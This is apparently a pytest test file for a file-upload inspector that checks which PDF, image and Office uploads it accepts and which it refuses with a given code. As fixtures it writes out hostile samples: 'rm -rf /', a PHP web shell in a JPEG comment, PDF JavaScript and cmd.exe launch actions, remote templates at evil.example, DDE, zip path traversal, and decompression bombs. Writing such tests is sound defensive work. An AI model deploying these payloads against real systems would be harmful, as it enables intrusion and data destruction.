"""What people hand in: good files of each kind are taken; whatever pretends, hides, runs or blows up has its own sentence."""

import io
import os
import struct
import time
import zipfile
import zlib

import pytest

from nanan_groups.kit.excel.hostile import OLE
from nanan_groups.kit.uploads import ACCEPTED, MAX_BYTES, Unusable, clean_name, inspect
from nanan_groups.testing.papers import EICAR, jpeg, object_stream, office, pdf, png, relations, zipped

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00" + b"\0" * 200
ZIP = zipped({"a.txt": "a"})
CHART = {"xl/charts/_rels/chart1.xml.rels": relations(("package", "../embeddings/book1.xlsx", ""))}
TEMPLATE = "attachedTemplate"


@pytest.fixture
def look(tmp_path):
    def run(content: bytes, name: str):
        path = tmp_path / "upload"
        path.write_bytes(content)
        return inspect(path, name)

    return run


GOOD = {
    "计划.pdf": (pdf(), "application/pdf"),
    "outline.PDF": (pdf(b"<</Type/Outlines/First 3 0 R>>", object_stream(b"<</Type/Page>>")), "application/pdf"),
    "old.pdf": (pdf(start=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"), "application/pdf"),
    "照片.jpg": (jpeg(), "image/jpeg"),
    "照片.jpeg": (jpeg(12000, 9000), "image/jpeg"),
    "motion.jpg": (jpeg(behind=b"\0\0\0\x18ftypmp42" + b"\x01" * 500 + jpeg()), "image/jpeg"),
    "章.png": (png(), "image/png"),
    "章程.docx": (
        office(".docx"),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "任务.xlsx": (
        office(".xlsx", **CHART, **{"xl/embeddings/book1.xlsx": "x", "xl/printerSettings/printerSettings1.bin": "x"}),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    ),
    "汇报.pptx": (
        office(".pptx"),
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "links.docx": (
        office(
            **{
                "word/_rels/document.xml.rels": relations(("hyperlink", "https://example.cn/", "External")),
                "word/_rels/settings.xml.rels": relations((TEMPLATE, "file:///C:\\Users\\w\\Normal.dotm", "External")),
            }
        ),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
}


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_taken_by_what_they_are(look, name):
    content, media_type = GOOD[name]
    assert look(content, name).media_type == media_type


def test_the_file_field_offers_what_is_taken():
    assert ACCEPTED == ".pdf,.docx,.xlsx,.pptx,.jpg,.jpeg,.png"


# --- the name says no ---------------------------------------------------------------------------------------------------
REFUSED_NAMES = {
    "a.docm": "macro", "a.XLSM": "macro", "a.doc": "old-word", "a.wps": "old-word", "a.xls": "old-excel", "a.et": "old-excel",
    "a.ppt": "old-powerpoint", "a.svg": "page", "a.html": "page", "a.exe": "program", "a.pdf.exe": "program",
    "a.lnk": "program", "a.zip": "archive", "a.rar": "archive", "a.txt": "text", "a.csv": "text", "a.gif": "picture",
    "a.heic": "picture", "a.mp4": "media", "a.ofd": "ofd", "a": "extension", ".pdf": "extension", "a.pdf.xyz": "extension",
    "a.pdf::$DATA": "extension", "../../etc/passwd": "extension",
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED_NAMES)
def test_an_ending_that_is_not_on_the_list_is_refused_whatever_the_content(look, name):
    with pytest.raises(Unusable) as refused:
        look(pdf(), name)
    assert refused.value.code == REFUSED_NAMES[name]


# --- the content says no ------------------------------------------------------------------------------------------------
def links(kind: str, target: str, mode: str = "External") -> bytes:
    return office(**{"word/_rels/document.xml.rels": relations((kind, target, mode))})


def symlink() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as target:
        link = zipfile.ZipInfo("word/media/image1.png")
        link.external_attr = 0o120777 << 16
        target.writestr(link, "/etc/passwd")
    return out.getvalue()


def named(raw: str, **others) -> bytes:
    """An entry under a name a zip library would not write."""
    stand_in = "x" * len(raw)
    return office(**{stand_in: "x"}, **others).replace(stand_in.encode(), raw.encode())


def encrypted_entry() -> bytes:
    content = bytearray(office())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        content[at + place] |= 1
    return bytes(content)


def deep(name: bytes) -> bytes:
    """An action where only who unpacks the object stream can see it."""
    return pdf(object_stream(b"<</S/%b>>" % name))


PAD = b" " * 2000
HOSTILE = {
    # what is not what its name says
    ("a.pdf", "program"): (EXE, "is-program"),
    ("a.pdf", "elf"): (b"\x7fELF" + b"\0" * 90, "is-program"),
    ("a.pdf", "html"): (HTML, "is-html"),
    ("a.pdf", "svg"): (SVG, "is-svg"),
    ("a.pdf", "script"): (b"#!/bin/sh\nrm -rf /\n", "is-script"),
    ("a.pdf", "text"): ("只是文字".encode(), "unknown-content"),
    ("a.pdf", "eicar"): (EICAR, "unknown-content"),
    ("a.pdf", "xml"): (b"<?xml version='1.0'?><a/>", "is-xml"),
    ("a.pdf", "rtf"): (b"{\\rtf1 a}", "is-rtf"),
    ("a.pdf", "docx"): (office(), "wrong-name"),
    ("a.pdf", "zip"): (ZIP, "wrong-name"),
    ("a.jpg", "png"): (png(), "wrong-name"),
    ("a.png", "jpeg"): (jpeg(), "wrong-name"),
    ("a.jpg", "gif"): (b"GIF89a" + b"\0" * 30, "is-picture"),
    ("a.jpg", "heic"): (b"\0\0\0\x18ftypheic", "is-heic"),
    ("a.png", "svg"): (b"<svg onload='alert(1)'/>", "is-svg"),
    ("a.docx", "pdf"): (pdf(), "wrong-name"),
    ("a.docx", "old"): (OLE + b"\0" * 600 + "WordDocument".encode("utf-16-le"), "old-office"),
    ("a.docx", "rar"): (b"Rar!\x1a\x07\x00", "is-archive"),
    ("a.docx", "zip"): (ZIP, "is-archive"),
    ("a.docx", "xlsx"): (office(".xlsx"), "wrong-name"),
    ("a.xlsx", "pptx"): (office(".pptx"), "wrong-name"),
    ("a.docx", "odt"): (zipped({"[Content_Types].xml": "<Types/>", "content.xml": "x"}), "unknown-office"),
    ("a.pdf", "nothing"): (b"", "empty-file"),
    # two things at once
    ("a.pdf", "late header"): (b"\n" + pdf(), "pdf-start"),
    ("a.pdf", "html before"): (HTML + pdf(), "pdf-start"),
    ("a.pdf", "exe before"): (EXE + pdf(), "pdf-start"),
    ("a.pdf", "html inside"): (pdf(start=b"%PDF-1.7\n%" + HTML + b"\n"), "polyglot-html"),
    ("a.pdf", "html after 3 KB"): (pdf(start=b"%PDF-1.7\n%" + PAD + b"<ScRiPt >\n"), "polyglot-html"),
    ("a.pdf", "zip behind"): (pdf() + ZIP, "polyglot-archive"),
    ("a.jpg", "zip behind"): (jpeg(behind=ZIP), "polyglot-archive"),
    ("a.jpg", "rar behind"): (jpeg(behind=b"Rar!\x1a\x07\x00"), "polyglot-archive"),
    ("a.jpg", "script behind"): (jpeg(behind=b"\0" * 5000 + b"<script>"), "polyglot-archive"),
    ("a.jpg", "html in note"): (jpeg(note=b"<html>"), "polyglot-html"),
    ("a.jpg", "php in note"): (jpeg(note=b"<?php system($_GET[0]); ?>"), "polyglot-html"),
    ("a.jpg", "pdf in note"): (jpeg(note=b"%PDF-1.4"), "polyglot-pdf"),
    ("a.png", "zip behind"): (png(behind=ZIP), "polyglot-archive"),
    ("a.png", "html in note"): (png(note=b"<iframe src=x>"), "polyglot-html"),
    ("a.docx", "exe before"): (EXE + office(), "is-program"),
    ("a.docx", "zip before"): (ZIP + office(), "polyglot-archive"),
    ("a.docx", "something behind"): (office() + b"\0" * 30, "polyglot-archive"),
    ("a.docx", "pdf in the first part"): (zipped({"a": b"%PDF-1.4"}, stored=True), "polyglot-pdf"),
    # what runs or starts something
    ("a.pdf", "javascript"): (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "pdf-javascript"),
    ("a.pdf", "names of scripts"): (pdf(b"<</Names<</JavaScript 3 0 R>>>>"), "pdf-javascript"),
    ("a.pdf", "disguised"): (pdf(b"<</S/J#61v#61Script>>"), "pdf-javascript"),
    ("a.pdf", "disguised whole"): (pdf(b"/" + b"".join(b"#%02X" % sign for sign in b"Launch") + b"/F"), "pdf-launch"),
    ("a.pdf", "compressed"): (deep(b"JavaScript"), "pdf-javascript"),
    ("a.pdf", "compressed launch"): (deep(b"L#61unch"), "pdf-launch"),
    ("a.pdf", "launch"): (pdf(b"<</S/Launch/F(cmd.exe)>>"), "pdf-launch"),
    ("a.pdf", "embedded"): (pdf(b"<</Type/EmbeddedFile>>"), "pdf-embedded"),
    ("a.pdf", "list of embedded"): (pdf(b"<</Names<</EmbeddedFiles 4 0 R>>>>"), "pdf-embedded"),
    ("a.pdf", "film"): (pdf(b"<</Subtype/RichMedia>>"), "pdf-media"),
    ("a.pdf", "xfa"): (pdf(b"<</AcroForm<</XFA 3 0 R>>>>"), "pdf-form"),
    ("a.pdf", "sends"): (pdf(b"<</S/SubmitForm>>"), "pdf-form"),
    ("a.pdf", "encrypted"): (pdf(b"<</Filter/Standard>>").replace(b"/Root", b"/Encrypt 9 0 R/Root"), "pdf-encrypted"),
    ("a.docx", "macro"): (office(**{"word/vbaProject.bin": b"x"}), "macro"),
    ("a.docx", "macro elsewhere"): (office(**{"word/other/VBAPROJECT.BIN": b"x"}), "macro"),
    ("a.docx", "macro by relation"): (links("vbaProject", "x.bin", ""), "macro"),
    ("a.docx", "docm"): (
        office(type_of_main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macro",
    ),
    ("a.xlsx", "old macro"): (office(".xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"}), "macro"),
    ("a.docx", "control"): (office(**{"word/activeX/activeX1.xml": "<x/>"}), "activex"),
    ("a.docx", "ole"): (office(**{"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
    ("a.docx", "ole by relation"): (links("oleObject", "media/image1.png", ""), "embedded"),
    ("a.docx", "workbook"): (
        office(**{
            "word/embeddings/book1.xlsx": "x",
            "word/_rels/document.xml.rels": relations(("package", "embeddings/book1.xlsx", "")),
        }), "embedded",
    ),
    ("a.docx", "page"): (links("aFChunk", "afchunk.mht", ""), "embedded"),
    ("a.docx", "exe"): (office(**{"word/media/a.exe": b"x"}), "program-inside"),
    ("a.docx", "remote template"): (links(TEMPLATE, "http://evil.example/t.dotm"), "remote"),
    ("a.docx", "template on a share"): (links(TEMPLATE, "file:///\\\\evil\\t.dotm"), "remote"),
    ("a.docx", "share"): (links(TEMPLATE, "\\\\evil\\t.dotm"), "remote"),
    ("a.docx", "remote object"): (links("oleObject", "mhtml:http://evil.example/a!x"), "remote"),
    ("a.xlsx", "dde"): (
        office(".xlsx", **{"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}), "dde",
    ),
    ("a.docx", "password"): (OLE + b"\0" * 9000 + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    ("a.docx", "zip password"): (encrypted_entry(), "encrypted"),
    # what blows up or points elsewhere
    ("a.png", "pixels"): (png(50_000, 50_000), "pixels"),
    ("a.jpg", "pixels"): (jpeg(50_000, 50_000), "pixels"),
    ("a.png", "no pixels"): (png(0, 5), "image-broken"),
    ("a.docx", "bomb"): (office(**{"word/x.xml": b"\0" * 20_000_000}), "ratio"),
    ("a.docx", "parts"): (office(**{f"word/{n}.xml": b"" for n in range(2100)}), "entries"),
    ("a.docx", "entities"): (
        office(**{"word/_rels/document.xml.rels": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'}), "unsafe",
    ),
    ("a.docx", "up"): (named("../../up.xml"), "paths"),
    ("a.docx", "up by windows"): (named("..\\..\\up.xml"), "paths"),
    ("a.docx", "from the root"): (named("/etc/cron.d/x"), "paths"),
    ("a.docx", "drive"): (named("C:/x/y.xml"), "paths"),
    ("a.docx", "symlink"): (symlink(), "paths"),
    ("a.pdf", "bomb"): (pdf(object_stream(b"x" * 70_000_000)), "pdf-bomb"),
    ("a.pdf", "another packing"): (pdf(object_stream(b"", packed=b"37203020>", dictionary=b"/Filter/AHx")), "pdf-hidden"),
    ("a.pdf", "predictor"): (
        pdf(object_stream(b"<<>>", dictionary=b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>")), "pdf-hidden",
    ),
    ("a.pdf", "no stream"): (pdf(b"<</Type/ObjStm>>"), "pdf-hidden"),
    ("a.pdf", "half a stream"): (
        pdf(object_stream(b"", packed=zlib.compress(b"7 0 " + os.urandom(4000))[:2000])), "pdf-hidden",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE, ids="-".join)
def test_each_hostile_file_is_refused_by_name_at_once(look, case):
    content, code = HOSTILE[case]
    started = time.monotonic()
    with pytest.raises(Unusable) as refused:
        look(content, case[0])
    assert time.monotonic() - started < 2
    assert refused.value.code == code
    sentence = refused.value.sentence
    assert sentence.endswith("。")
    assert any(word in sentence for word in ("请", "可以上传"))
    assert "另存为“Excel 工作簿" not in sentence  # what the import centre says of sheets


# --- cut short, too big ---------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("share", [0.3, 0.5, 0.9, 0.99])
@pytest.mark.parametrize("name", ["计划.pdf", "照片.jpg", "章.png", "章程.docx"])
def test_what_arrived_in_part_is_not_taken(look, name, share):
    content, _ = GOOD[name]
    with pytest.raises(Unusable) as refused:
        look(content[: int(len(content) * share)], name)
    assert refused.value.code in ("pdf-broken", "image-broken", "corrupt", "polyglot-archive")


def test_a_size_beyond_the_limit_is_said_in_numbers(look):
    with pytest.raises(Unusable) as refused:
        look(pdf() + b"\0" * MAX_BYTES, "a.pdf")
    assert refused.value.code == "too-big"
    assert refused.value.sentence.startswith("文件有 20.0 MB，超过单个附件 20 MB 的上限。")


def test_many_tiny_parts_do_not_keep_the_server_busy(look):
    streams = (b"/ObjStm " * 500 + b"stream\n" + zlib.compress(b"1 0 x") + b"endstream") * 4500
    started = time.monotonic()
    with pytest.raises(Unusable) as refused:
        look(pdf(streams), "a.pdf")
    assert (refused.value.code, time.monotonic() - started < 3) == ("pdf-hidden", True)


def test_random_changes_are_refused_or_taken_never_an_error(look):
    """Every single byte of a small file of each kind, changed; and headers that promise too much."""
    taken = 0
    for name in ("计划.pdf", "照片.jpg", "章.png"):
        content = GOOD[name][0]
        for at in range(len(content)):
            for change in (0x00, 0xFF, content[at] ^ 0x20):
                spoilt = content[:at] + bytes([change]) + content[at + 1 :]
                try:
                    look(spoilt, name)
                    taken += 1
                except Unusable:
                    continue
    assert taken > 100


def test_a_png_whose_chunk_promises_4_gb(look):
    content = png().replace(struct.pack(">I", len(b"n\0")) + b"tEXt", struct.pack(">I", 0xFFFFFFF0) + b"tEXt")
    with pytest.raises(Unusable) as refused:
        look(content, "a.png")
    assert refused.value.code == "image-broken"


# --- names ----------------------------------------------------------------------------------------------------------------
NAMES = {
    "计划.pdf": "计划.pdf",
    "../../etc/计划.pdf": "计划.pdf",
    "C:\\Users\\w\\计划.pdf": "计划.pdf",
    "计\r\n划\x00.pdf": "计划.pdf",
    "计划\u202efdp.exe": "计划fdp.exe",
    'a"; filename="evil.exe': "a_; filename=_evil.exe",
    "  计划.pdf . ": "计划.pdf",
    "<script>.pdf": "_script_.pdf",
    "": "未命名",
    "...": "未命名",
    "\u200b\u2028": "未命名",
    "a" * 300 + ".pdf": "a" * 196 + ".pdf",
    "a." + "b" * 300: "a." + "b" * 188 + "." + "b" * 9,
    "e\u0301.pdf": "é.pdf",
    "\ue000.pdf": "\ue000.pdf",
    "\ud800.pdf": "pdf",
}


@pytest.mark.parametrize("given", NAMES)
def test_a_name_is_shown_never_followed(given):
    assert clean_name(given) == NAMES[given]
